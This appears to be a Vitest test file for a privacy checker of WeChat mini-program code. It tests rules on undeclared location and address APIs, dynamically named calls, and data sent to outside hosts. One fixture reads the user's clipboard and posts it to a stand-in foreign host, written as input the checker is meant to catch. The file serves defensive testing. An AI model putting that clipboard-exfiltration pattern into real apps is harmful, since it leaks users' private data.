import { describe, expect, it } from 'vitest'
import { HOME } from '../../4-trace/harness.js'
import { codesIn, foundIn } from './harness.js'

const app = (more: string) => `{"pages":["${HOME}","pages/detail/detail"]${more}}`

describe('personal data', () => {
  it('APIs of places and addresses have to be declared', () => {
    const js = 'Page({ onTap() { wx.chooseAddress({}) } })'
    expect(codesIn({ js })).toEqual(['behaviour/private-undeclared'])
    expect(codesIn({ js, 'app.json': app(',"requiredPrivateInfos":["chooseAddress"]') })).toEqual([])
  })

  it('counts calls that are written, not what an API of unknown name could be', () => {
    const js = 'Page({ onTap() { wx.chooseAddress({}); wx[wx.getStorageSync("n")]({}) } })'
    expect(foundIn({ js }).find(({ code }) => code === 'behaviour/private-undeclared')?.params).toMatchObject({
      count: 1,
    })
    expect(codesIn({ js: 'Page({ onTap() { wx[wx.getStorageSync("n")]({}) } })' })).toEqual(['behaviour/any-api'])
  })

  it('is not sent to somebody else', () => {
    const js = (host: string) => `Page({
      onLoad() { wx.request({ url: "https://api.shop.example.com/a" }); wx.request({ url: "https://api.shop.example.com/b" }) },
      onTap() { wx.getClipboardData({ success: ({ data }) => wx.request({ url: "https://${host}/c", data: { data } }) }) } })`
    expect(codesIn({ js: js('data.other.test') })).toEqual(['behaviour/private-to-others'])
    expect(codesIn({ js: js('static.example.com') })).toEqual([])
  })

  it('a server of maps may be told the place', () => {
    const js = `Page({ onLoad() { wx.request({ url: "https://a.example.com/a" }); wx.request({ url: "https://a.example.com/b" }) },
      onTap() { wx.getLocation({ success: ({ latitude }) => wx.request({ url: "https://apis.map.qq.com/x", data: { latitude } }) }) } })`
    const declared = app(',"requiredPrivateInfos":["getLocation"]')
    expect(codesIn({ js, 'app.json': declared })).toEqual([])
    expect(codesIn({ js: js.replace('apis.map.qq.com', 'free-api.heweather.net'), 'app.json': declared })).toEqual([])
  })
})
